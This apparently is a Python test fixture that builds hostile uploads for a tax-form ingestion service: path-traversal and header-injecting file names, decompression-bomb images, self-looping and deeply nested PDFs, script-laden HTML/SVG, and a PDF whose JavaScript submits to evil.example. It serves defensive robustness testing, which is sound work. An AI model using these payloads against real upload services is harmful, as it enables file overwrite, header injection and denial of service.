"""Hostile uploads, generated in code: truncated, polyglot, huge dimensions, deep PDF nesting,
JavaScript in PDF, wrong magic, zero bytes, unicode and path-traversal file names.

`corpus(tmp)` -> [Sample]; each must end as a clean 4xx or as a failed document with a reason.
"""
from __future__ import annotations

import io
import struct
import zlib
from dataclasses import dataclass
from pathlib import Path

from PIL import Image

from tests.unit.documents import generate

FORM16 = {
    "employer_name": "Acme Widgets Pvt Ltd", "employer_tan": "MUMA12345B", "employee_pan": "ABCPE1234F",
    "employee_name": "Asha Rao", "assessment_year": "2026-27", "gross_salary": 1250000, "tds": 98000,
}
# Names a careless store would use as paths, or that break naive headers and logs.
HOSTILE_NAMES = [
    "../../../../../../tmp/taxdesk-traversal.pdf",
    "..\\..\\..\\..\\windows\\win.ini",
    "/etc/cron.d/taxdesk-owned",
    "uploads/../../secret_key",
    "फ़ॉर्म16-आशा.pdf",
    "form16\u202egnp.exe",
    "form\r\nX-Injected: 1.pdf",
    "name with \"quotes\" and ;semicolons;.pdf",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "a" * 1000 + ".pdf",
    ".htaccess",
    "CON.pdf",
]


@dataclass(frozen=True)
class Sample:
    label: str
    filename: str
    data: bytes
    # A well-formed PDF whose hostile part is inert to the reader (pdfium runs no JavaScript, and
    # caps object nesting): it may also end read as an unknown document with no fields.
    inert: bool = False


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def _png(width: int, height: int, idat: bytes = b"") -> bytes:
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr) + _png_chunk(b"IDAT", idat or zlib.compress(b"\x00" * 64))
            + _png_chunk(b"IEND", b""))


def _image(fmt: str, size: tuple[int, int] = (64, 48), colour: str = "white") -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, colour).save(out, fmt)
    return out.getvalue()


def _tiff_huge() -> bytes:
    """A little-endian TIFF whose IFD declares 2^31 x 2^31 pixels and points at no data."""
    entries = [(256, 4, 1, 2**31 - 1), (257, 4, 1, 2**31 - 1), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1),
               (273, 4, 1, 8), (278, 4, 1, 2**31 - 1), (279, 4, 1, 1)]
    ifd = struct.pack("<H", len(entries)) + b"".join(struct.pack("<HHII", *e) for e in entries) + struct.pack("<I", 0)
    return b"II*\x00" + struct.pack("<I", 8) + ifd


def _pdf(objects: list[bytes], root: int = 1) -> bytes:
    """A syntactically valid PDF (correct xref offsets) from numbered object bodies."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % i + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for off in offsets:
        out.write(b"%010d 00000 n \n" % off)
    out.write(b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, xref))
    return out.getvalue()


def _page_objects(extra_catalog: bytes = b"", page_extra: bytes = b"") -> list[bytes]:
    content = b"BT /F1 12 Tf 72 720 Td (Form No. 16) Tj ET"
    return [
        b"<< /Type /Catalog /Pages 2 0 R " + extra_catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> " + page_extra + b" >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]


def _deeply_nested_pdf(depth: int) -> bytes:
    """Nesting inline in the page dictionary, so loading the page must parse it."""
    nested = b"[" * depth + b"]" * depth + b" /Deeper " + b"<< /A " * depth + b">>" * depth
    return _pdf(_page_objects(page_extra=b"/Nested " + nested))


def _javascript_pdf() -> bytes:
    objects = _page_objects(extra_catalog=b"/OpenAction 6 0 R /Names << /JavaScript << /Names [(x) 6 0 R] >> >>")
    objects.append(b"<< /S /JavaScript /JS (app.alert('pwned'); this.submitForm('http://evil.example/')) >>")
    return _pdf(objects)


def _self_referencing_pdf() -> bytes:
    """A page tree whose Kids point back at itself: a naive walker never ends."""
    return _pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 1000000 >>",
        b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1000000 >>",
    ])


def corpus(tmp: Path) -> list[Sample]:
    tmp.mkdir(parents=True, exist_ok=True)
    form16 = tmp / "form16.pdf"
    generate.make_form16_pdf(form16, FORM16)
    form16_bytes = form16.read_bytes()
    locked = tmp / "locked.pdf"
    generate.make_form16_pdf(locked, FORM16, password="s3cret-pass")
    png, jpeg = _image("PNG"), _image("JPEG")
    samples = [
        Sample("zero bytes", "empty.pdf", b""),
        Sample("truncated pdf", "form16.pdf", form16_bytes[: len(form16_bytes) * 6 // 10]),
        Sample("pdf header only", "form16.pdf", b"%PDF-1.7\n"),
        Sample("truncated png", "scan.png", png[: len(png) // 2]),
        Sample("truncated jpeg", "scan.jpg", jpeg[: len(jpeg) // 3]),
        Sample("pdf magic then garbage", "form16.pdf", generate.make_pdf_magic_garbage(tmp / "g.pdf").read_bytes()),
        Sample("zip behind a pdf name", "form16.pdf", b"PK\x03\x04" + bytes(200)),
        Sample("executable behind a pdf name", "form16.pdf", b"\x7fELF\x02\x01\x01" + bytes(300)),
        Sample("html with script behind a pdf name", "form16.pdf", b"<html><script>alert(document.cookie)</script>"),
        Sample("svg with script behind a png name", "scan.png",
               b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
        Sample("gif behind a png name", "scan.png", _image("GIF")),
        Sample("png declaring 100000x100000 pixels", "bomb.png", _png(100_000, 100_000)),
        Sample("png declaring 2^31-1 pixels wide", "wide.png", _png(2**31 - 1, 1)),
        Sample("png with a corrupt compressed stream", "scan.png", _png(64, 48, b"\x78\x9c" + bytes(50))),
        Sample("tiff declaring 2^31 x 2^31 pixels", "huge.tiff", _tiff_huge()),
        Sample("pdf nested 100000 arrays and dictionaries deep", "nested.pdf", _deeply_nested_pdf(100_000),
               inert=True),
        Sample("pdf whose page tree contains itself", "loop.pdf", _self_referencing_pdf()),
        Sample("pdf with JavaScript actions", "form16.pdf", _javascript_pdf(), inert=True),
        Sample("pdf and zip polyglot of a blank page", "poly.pdf", _pdf(_page_objects()) + b"PK\x05\x06" + bytes(18)),
        Sample("encrypted pdf without its password", "locked.pdf", locked.read_bytes()),
        Sample("pdf of 400 pages", "long.pdf", generate.make_many_pages_pdf(tmp / "long.pdf", 400).read_bytes()),
    ]
    # Hostile names on hostile content (a truncated PNG each, different bytes so none is a duplicate).
    for i, name in enumerate(HOSTILE_NAMES):
        body = _image("PNG", (64 + i, 48), "white")
        samples.append(Sample(f"file name {name[:40]!r}", name, body[: len(body) // 2]))
    return samples
